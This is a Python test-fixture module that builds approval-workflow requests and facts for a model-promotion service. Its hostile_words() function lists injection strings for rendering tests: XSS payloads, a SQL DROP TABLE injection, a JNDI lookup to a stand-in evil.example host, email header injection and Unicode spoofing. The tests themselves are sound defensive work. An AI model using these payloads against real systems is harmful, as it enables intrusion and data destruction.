"""Requests with a fact of every type, as channels get them. Builds, never asserts."""

import datetime as dt
from typing import Any, Final

import msgspec

from promotion.domain.actors import SWEEP, Actor, Person, acting
from promotion.domain.approvals import Decision, Verdict
from promotion.domain.assets import AssetRef
from promotion.domain.facts import Fact, FactType
from promotion.domain.lifecycle.step import step
from promotion.domain.orders import Order, Verb
from promotion.domain.policy import StageSpec
from promotion.domain.request import Request, State
from promotion.domain.results import CheckResult, Outcome
from tests.building import NOW, PROD, model, opened, person

PUBLIC_URL: Final = "https://promotion.example"
TRACE: Final = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"

_STATES: Final = {
    FactType.REQUEST_OPENED: State.RECEIVED,
    FactType.VALIDATION_STARTED: State.VALIDATING,
    FactType.VALIDATION_DEFERRED: State.RECEIVED,
    FactType.REQUEST_REFUSED: State.REFUSED,
    FactType.APPROVAL_REQUESTED: State.PENDING,
    FactType.DECISION_RECORDED: State.PENDING,
    FactType.REQUEST_APPROVED: State.APPROVED,
    FactType.REQUEST_REJECTED: State.REJECTED,
    FactType.EVIDENCE_SUBMITTED: State.RECEIVED,
    FactType.REQUEST_EXPIRED: State.EXPIRED,
    FactType.REQUEST_CANCELLED: State.CANCELLED,
    FactType.REQUEST_SUPERSEDED: State.SUPERSEDED,
    FactType.COPY_STARTED: State.PROMOTING,
    FactType.ASSET_PROMOTED: State.PROMOTED,
    FactType.WITHDRAWAL_REQUESTED: State.PENDING,
    FactType.WITHDRAWAL_FORCED: State.APPROVED,
    FactType.RESTORATION_REQUESTED: State.PENDING,
    FactType.RETIREMENT_ORDERED: State.APPROVED,
    FactType.ASSET_WITHDRAWN: State.DONE,
    FactType.ASSET_RESTORED: State.DONE,
    FactType.ASSET_RETIRED: State.DONE,
    FactType.PROMOTION_WITHDRAWN: State.WITHDRAWN,
    FactType.PROMOTION_RESTORED: State.PROMOTED,
    FactType.PROMOTION_FAILED: State.FAILED,
    FactType.PROMOTION_RETRIED: State.APPROVED,
    FactType.PROBLEM_REPORTED: State.APPROVED,
    FactType.APPROVAL_REMINDED: State.PENDING,
    FactType.APPROVAL_ESCALATED: State.PENDING,
    FactType.BYPASS_DETECTED: State.BYPASSED,
    FactType.BYPASS_ACKNOWLEDGED: State.ACKNOWLEDGED,
}
#: Facts of orders about a version; the other facts are told of a request that brings one.
_OF_ORDERS: Final = {
    FactType.WITHDRAWAL_REQUESTED: Verb.WITHDRAW,
    FactType.WITHDRAWAL_FORCED: Verb.WITHDRAW,
    FactType.RESTORATION_REQUESTED: Verb.RESTORE,
    FactType.RETIREMENT_ORDERED: Verb.RETIRE,
    FactType.ASSET_WITHDRAWN: Verb.WITHDRAW,
    FactType.ASSET_RESTORED: Verb.RESTORE,
    FactType.ASSET_RETIRED: Verb.RETIRE,
}
_BY_PEOPLE: Final = {
    FactType.DECISION_RECORDED,
    FactType.REQUEST_APPROVED,
    FactType.REQUEST_REJECTED,
    FactType.REQUEST_CANCELLED,
    FactType.WITHDRAWAL_FORCED,
    FactType.PROMOTION_RETRIED,
    FactType.BYPASS_ACKNOWLEDGED,
}


def story(
    kind: FactType,
    asset: AssetRef | None = None,
    *,
    words: str = "The pickup hours at night are missing.",
    checks: tuple[CheckResult, ...] = (),
    **changes: Any,  # noqa: ANN401 -- fields of Request, checked by msgspec
) -> tuple[Request, Fact]:
    """Return a request and its latest fact, of that type.

    Args:
        kind: the fact's type.
        asset: what travels.
        words: what people and services say wherever the fact holds text from outside.
        checks: the checks' answers, some ordinary ones when none are given.
        **changes: fields of the request.
    """
    before = _request(asset or model(), _STATES[kind], checks or _checks(kind))
    if kind is FactType.DECISION_RECORDED:
        before = _agreed(before)
    if kind in _OF_ORDERS:
        before = msgspec.structs.replace(before, order=order(before, _OF_ORDERS[kind]))
    after = msgspec.structs.replace(before, **changes)
    actor: Actor = acting(person("Second Approver")) if kind in _BY_PEOPLE else SWEEP
    data = {
        "problem": words,
        "remedy": words,
        "comment": words,
        "reason": words,
        "stage": "business",
        "verdict": "approve" if kind is FactType.DECISION_RECORDED else "reject",
    }
    done = step(after, kind, actor, NOW, data, before=State.PENDING)
    return done.request, done.fact


def order(request: Request, verb: Verb, *, successor: str = "") -> Order:
    """Return an order about the version that a request brought."""
    return Order(verb=verb, asset=request.target.id, current="1", successor=successor)


def hostile_words() -> tuple[str, ...]:
    """Return names and comments that try to be more than text."""
    return (
        "**bold** [click](https://evil.example) <b>tag</b>",
        "{{DATE(2026-03-01T00:00:00Z, SHORT)}} {{{TIME(x)}}}",
        "right\u202eto left\u2066 isolated\u200b zero\ufeff width",
        "line\nbreak\r\nBcc: everyone@evil.example\u2028and\u2029more\x00\x07\x1b[31m",
        "<script>alert(1)</script><img src=x onerror=alert(1)>\"'`",
        "# heading\n- list\n> quote | table | `code` _em_ ~~s~~",
        "e\u0301" * 200,
        "\U0001f600" * 255,
        "\u200b\u200c\u200d",
        "'; DROP TABLE facts; -- ${jndi:ldap://evil.example/a} @{triggerBody()} {% raw %}{{7*7}}",
        "https://evil.example www.evil.example mailto:a@evil.example javascript:alert(1)",
    )


def result(name: str, outcome: Outcome, summary: str) -> CheckResult:
    """Return one check's answer."""
    return CheckResult(name=name, outcome=outcome, summary=summary)


def _request(asset: AssetRef, state: State, checks: tuple[CheckResult, ...]) -> Request:
    first = opened(asset).request
    approver: Person = person("Approver")
    digest = f"sha256:{'3f9a' * 16}"
    return msgspec.structs.replace(
        first,
        target=asset.moved(PROD),
        state=state,
        revision=7,
        reason="Needed for the spring season.",
        expires_at=NOW + dt.timedelta(days=7),
        digest=digest,
        files=4,
        size=1_457_664,
        checks=checks,
        stages=(
            StageSpec(name="business", roles=("Promotion.Approver",), quorum=2),
            StageSpec(name="security", roles=("Promotion.Approver.Security",)),
        ),
        decisions=(
            Decision(
                stage="business",
                verdict=Verdict.APPROVE,
                by=approver,
                comment="Fine.",
                at=NOW,
                digest=digest,
                revision=6,
            ),
        ),
        requested_by=acting(person("Requester")),
        trace=TRACE,
    )


def _agreed(request: Request) -> Request:
    """Return the request after the second of the first stage's two approvals."""
    (first,) = request.decisions
    second = msgspec.structs.replace(first, by=person("Second Approver"), revision=7)
    return msgspec.structs.replace(request, decisions=(first, second))


def _checks(kind: FactType) -> tuple[CheckResult, ...]:
    passed = (
        result("required_tags", Outcome.PASSED, "All 3 tags and properties are there."),
        result("version_rule", Outcome.PASSED, "Version 1 follows the scheme 'integer'."),
    )
    if kind is FactType.REQUEST_REFUSED:
        low = result("metric_threshold:r2", Outcome.FAILED, "r2 0.61 is outside at least 0.8.")
        return (*passed, low)
    return (
        *passed,
        result("metric_threshold:r2", Outcome.PASSED, "r2 0.93 is within at least 0.8."),
    )
